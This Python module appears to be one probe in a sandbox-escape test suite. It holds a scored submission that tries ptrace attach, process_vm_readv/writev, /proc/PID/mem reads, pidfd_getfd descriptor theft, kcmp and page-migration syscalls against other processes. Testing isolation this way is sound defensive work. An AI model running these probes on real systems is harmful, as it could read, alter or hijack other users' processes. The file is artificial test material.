"""Look into other processes and change them: ptrace, their memory, their descriptors, comparing them with kcmp.

Success: any of them can be reached, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r"""
PTRACE, READV, WRITEV, KCMP, PIDFD_OPEN, PIDFD_GETFD, PIDFD_SIGNAL = 101, 310, 311, 312, 434, 438, 424
PROCESS_MADVISE, PROCESS_MRELEASE, MOVE_PAGES, MIGRATE_PAGES, GET_ROBUST_LIST = 440, 448, 279, 256, 274
ATTACH, SEIZE, TRACEME = 16, 0x4206, 0


def others():
    return [pid for pid in (1, os.getppid(), *range(2, 200)) if pid not in (0, os.getpid())]


def attach():
    return each(lambda pid: kernel(PTRACE, SEIZE, pid, 0, 0) + 1, others())


def attach_and_stop():
    return each(lambda pid: kernel(PTRACE, ATTACH, pid, 0, 0) + 1, others())


def be_traced():
    return kernel(PTRACE, TRACEME, 0, 0, 0) == 0


def memory(call):
    room = ctypes.create_string_buffer(64)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(room), 64)
    there = (ctypes.c_uint64 * 2)(ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, "Py_NoSiteFlag")), 4)
    return each(lambda pid: kernel(call, pid, here, 1, there, 1, 0), others())


def read_memory():
    return memory(READV)


def write_memory():
    return memory(WRITEV)


def read_memory_as_a_file():
    return each(lambda pid: open(f"/proc/{pid}/mem", "rb").fileno(), others())


def compare():
    return each(lambda pid: kernel(KCMP, os.getpid(), pid, 1, 0, 0) + 1, others())


def take_descriptors():
    def take(pid):
        handle = kernel(PIDFD_OPEN, pid, 0)
        return each(lambda fd: kernel(PIDFD_GETFD, handle, fd, 0), range(20)) or "a handle"
    return each(take, others())


def handle_of_a_thread():
    return kernel(PIDFD_OPEN, os.getpid(), 0o200)


def push_their_pages_out():
    node = (ctypes.c_ulong * 1)(1)
    return each(lambda pid: kernel(MIGRATE_PAGES, pid, 1, node, node) + 1, others())


def where_their_pages_are():
    return each(lambda pid: kernel(MOVE_PAGES, pid, 0, 0, 0, 0, 0) + 1, others())


def lists_of_their_locks():
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    return each(lambda pid: kernel(GET_ROBUST_LIST, pid, ctypes.byref(head), ctypes.byref(size)) + 1, others())


WAYS = [attach, attach_and_stop, be_traced, read_memory, write_memory, read_memory_as_a_file, compare, take_descriptors,
        handle_of_a_thread, push_their_pages_out, where_their_pages_are, lists_of_their_locks]
"""
)
